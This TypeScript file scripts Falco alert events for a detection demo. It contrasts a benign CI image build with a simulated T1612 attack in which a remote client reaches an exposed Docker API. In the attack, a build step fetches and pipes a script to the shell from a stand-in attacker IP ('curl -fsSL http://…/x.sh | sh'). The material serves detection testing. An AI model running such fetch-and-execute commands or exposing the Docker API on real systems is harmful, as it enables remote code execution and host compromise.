/**
 * The demo's scripted Falco events: a benign CI build on one host, and a T1612 attack on
 * another — a remote Docker API build whose RUN step downloads a payload from a never-seen IP.
 * Each is rendered through the shipped rule that would report it (render.ts), so it is what
 * Falco's json_output prints.
 *
 * `tsx src/demo/script.ts` prints them as JSON lines (that is how examples/sample-events.jsonl
 * was recorded).
 */
import { ANCESTRY_DEPTH } from '../model/fields.js';
import { falcoJsonLine, loadRuleTemplates, renderEvent, type FieldValues } from './render.js';

export interface Proc {
  pid: number;
  name: string;
  exepath: string;
  cmdline: string;
  user?: string;
  /** Parent first: [name, pid, cmdline?] */
  ancestors: [string, number, string?][];
  container?: { id: string; name: string; repository: string; tag: string } | undefined;
  cgroups?: string;
}

export interface ScriptEvent {
  /** Offset from the start of the script, ms. */
  atMs: number;
  rule: string;
  hostname: string;
  proc: Proc;
  extra?: FieldValues;
}

function processFields(p: Proc): FieldValues {
  const f: FieldValues = {
    'proc.pid': p.pid,
    'proc.ppid': p.ancestors[0]?.[1] ?? null,
    'proc.name': p.name,
    'proc.exepath': p.exepath,
    'proc.cmdline': p.cmdline,
    'proc.pname': p.ancestors[0]?.[0] ?? null,
    'proc.pcmdline': p.ancestors[0]?.[2] ?? p.ancestors[0]?.[0] ?? null,
    'user.name': p.user ?? 'root',
    'container.id': p.container?.id ?? 'host',
    'container.name': p.container?.name ?? 'host',
    'container.image': p.container ? `${p.container.repository}:${p.container.tag}` : null,
    'container.image.repository': p.container?.repository ?? null,
    'container.image.tag': p.container?.tag ?? null,
    'thread.cgroups': p.cgroups ?? 'cpuset=/ cpu=/ memory=/',
  };
  for (let n = 2; n <= ANCESTRY_DEPTH; n++) {
    const a = p.ancestors[n - 1];
    f[`proc.aname[${n}]`] = a?.[0] ?? null;
    f[`proc.apid[${n}]`] = a?.[1] ?? null;
  }
  return f;
}

/** The script as Falco JSON alerts, the first at `startNs` (ns since the epoch). */
export async function renderScript(startNs: bigint, script: ScriptEvent[] = demoScript()): Promise<Record<string, unknown>[]> {
  const templates = await loadRuleTemplates();
  return script.map((ev) => {
    const tpl = templates.get(ev.rule);
    if (!tpl) throw new Error(`the demo script names ${ev.rule}, which the shipped rules do not have`);
    return renderEvent(tpl, ev.hostname, startNs + BigInt(ev.atMs) * 1_000_000n, { ...processFields(ev.proc), ...(ev.extra ?? {}) });
  });
}

const init: [string, number, string] = ['systemd', 1, '/sbin/init'];
const dockerd: [string, number, string] = ['dockerd', 811, '/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock'];
const dockerdRemote: [string, number, string] = ['dockerd', 944, '/usr/bin/dockerd -H fd:// -H tcp://0.0.0.0:2375'];

// Falco fills fd.sip.name only for domains its loaded rules name, so real events carry <NA>.
const egress = (ip: string, port: number, proto = 'tcp'): FieldValues => ({
  'evt.type': 'connect',
  'fd.sip': ip,
  'fd.sport': port,
  'fd.l4proto': proto,
  'fd.sip.name': null,
  'fd.name': `10.0.2.15:${40000 + (port % 1000)}->${ip}:${port}`,
});

/** Hostnames used by the script, so the demo can tell the two stories apart. */
export const BENIGN_HOST = 'ci-build-01';
export const ATTACK_HOST = 'node-7';
export const ATTACKER_IP = '203.0.113.66';
/** Docker Hub's CDN network in the script; the demo allow-lists it (`allow_cidrs`). */
export const REGISTRY_CIDR = '104.16.0.0/13';
export const ATTACKER_CLIENT = '198.51.100.7';

export function demoScript(): ScriptEvent[] {
  const ciRunner = { id: '5f3c9a1b2d4e', name: 'ci-runner', repository: 'docker.io/library/alpine', tag: '3.20' };
  const benignStep = '/docker/buildkit/qm1x0d8f3hz6r2bq1w9l7k4nc';
  const attackStep = '/docker/buildkit/x5hq2k8v0c3m9p1r7t4n6b2ja';
  return [
    // Baseline on the CI host: a CI container fetches Alpine packages (the IP becomes known).
    {
      atMs: 0,
      rule: 'T1612 Container Outbound Connection',
      hostname: BENIGN_HOST,
      proc: { pid: 20111, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache git', ancestors: [['sh', 20102, 'sh -c apk add --no-cache git'], ['containerd-shim', 20050], init], container: ciRunner },
      extra: egress('151.101.2.132', 443),
    },
    // Benign build: CI runs `docker build`; dockerd pulls the base image from Docker Hub
    // (allow-listed domain); the RUN step installs packages from the known Alpine CDN.
    {
      atMs: 300,
      rule: 'T1612 Image Build Command Executed',
      hostname: BENIGN_HOST,
      proc: { pid: 21001, name: 'docker', exepath: '/usr/bin/docker', cmdline: 'docker build -t shop/web:1.4.2 .', user: 'ci', ancestors: [['bash', 20990, 'bash ci/build.sh'], ['gitlab-runner', 900], init] },
    },
    {
      atMs: 400,
      rule: 'T1612 Builder Daemon Outbound Connection',
      hostname: BENIGN_HOST,
      proc: { pid: dockerd[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerd[2], ancestors: [init] },
      extra: egress('104.16.99.56', 443),
    },
    {
      atMs: 600,
      rule: 'T1612 Builder Runtime Started',
      hostname: BENIGN_HOST,
      proc: {
        pid: 21100,
        name: 'runc',
        exepath: '/usr/bin/runc',
        cmdline: `runc --log /var/lib/docker/buildkit/executor/runc-log.json --log-format json run --bundle /var/lib/docker/buildkit/executor/qm1x0d8f3hz6r2bq1w9l7k4nc --keep qm1x0d8f3hz6r2bq1w9l7k4nc`,
        ancestors: [dockerd, init],
      },
    },
    {
      atMs: 800,
      rule: 'T1612 Build Step Outbound Connection',
      hostname: BENIGN_HOST,
      proc: { pid: 21140, name: 'apk', exepath: '/sbin/apk', cmdline: 'apk add --no-cache nodejs npm', ancestors: [['sh', 21120, '/bin/sh -c apk add --no-cache nodejs npm'], ['runc', 21100], dockerd, init], cgroups: `cpuset=${benignStep} cpu=${benignStep} memory=${benignStep}` },
      extra: egress('151.101.2.132', 443),
    },
    // The attack on node-7: a client on the internet reaches the exposed Docker API...
    {
      atMs: 1000,
      rule: 'T1612 Remote Docker API Connection',
      hostname: ATTACK_HOST,
      proc: { pid: dockerdRemote[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerdRemote[2], ancestors: [init] },
      extra: { 'evt.type': 'accept4', 'fd.cip': ATTACKER_CLIENT, 'fd.cport': 53422, 'fd.sport': 2375, 'fd.name': `${ATTACKER_CLIENT}:53422->10.0.4.21:2375` },
    },
    // ...POST /build: dockerd pulls a clean alpine base (allow-listed registry)...
    {
      atMs: 1200,
      rule: 'T1612 Builder Daemon Outbound Connection',
      hostname: ATTACK_HOST,
      proc: { pid: dockerdRemote[1], name: 'dockerd', exepath: '/usr/bin/dockerd', cmdline: dockerdRemote[2], ancestors: [init] },
      extra: egress('104.16.99.56', 443),
    },
    // ...BuildKit runs the RUN step...
    {
      atMs: 1400,
      rule: 'T1612 Builder Runtime Started',
      hostname: ATTACK_HOST,
      proc: {
        pid: 30200,
        name: 'runc',
        exepath: '/usr/bin/runc',
        cmdline: `runc --log /var/lib/docker/buildkit/executor/runc-log.json --log-format json run --bundle /var/lib/docker/buildkit/executor/x5hq2k8v0c3m9p1r7t4n6b2ja --keep x5hq2k8v0c3m9p1r7t4n6b2ja`,
        ancestors: [dockerdRemote, init],
      },
    },
    // ...and the RUN step downloads the payload from the attacker's server.
    {
      atMs: 1600,
      rule: 'T1612 Build Step Outbound Connection',
      hostname: ATTACK_HOST,
      proc: { pid: 30240, name: 'curl', exepath: '/usr/bin/curl', cmdline: `curl -fsSL http://${ATTACKER_IP}/x.sh`, ancestors: [['sh', 30220, `/bin/sh -c curl -fsSL http://${ATTACKER_IP}/x.sh | sh`], ['runc', 30200], dockerdRemote, init], cgroups: `cpuset=${attackStep} cpu=${attackStep} memory=${attackStep}` },
      extra: egress(ATTACKER_IP, 80),
    },
  ];
}

// `tsx src/demo/script.ts` prints the script as Falco JSON lines.
if (import.meta.url === `file://${process.argv[1]}`) {
  const start = BigInt(Date.parse('2026-11-02T09:15:00Z')) * 1_000_000n + 123_456n;
  for (const ev of await renderScript(start)) process.stdout.write(`${falcoJsonLine(ev)}\n`);
}
